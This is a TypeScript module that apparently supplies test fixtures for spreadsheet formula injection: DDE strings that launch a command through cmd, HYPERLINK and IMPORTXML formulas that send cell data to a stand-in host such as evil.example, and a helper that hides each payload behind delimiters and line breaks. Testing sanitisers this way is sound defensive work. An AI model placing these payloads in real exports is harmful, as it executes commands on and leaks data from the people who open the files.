/** What spreadsheets have been made to run: formulas, commands, links, and the characters that hide them. */
export const PAYLOADS = [
  '=cmd|\' /C calc\'!A0', '=1+1', '=HYPERLINK("http://evil.example/?"&A1,"x")', '=IMPORTXML(CONCAT("http://x/?",A1),"//a")', '=DDE("cmd";"/C calc";"x")', '+1+1', '+cmd|x!A0', '-2+3', '-1+cmd|x!A0', '@SUM(1)', '@import', '\tx', '\t=1+1',
  '\rx', '\r\n=1+1', '\0x', '\0=1+1',
] as const;

/** The same where it does not begin the cell: behind what a reader may take for the end of a cell or a line. */
export const hidden = (payload: string): readonly string[] => [payload, `a,${payload}`, `a;${payload}`, `a\t${payload}`, `"${payload}`, `x"\r\n${payload}`];
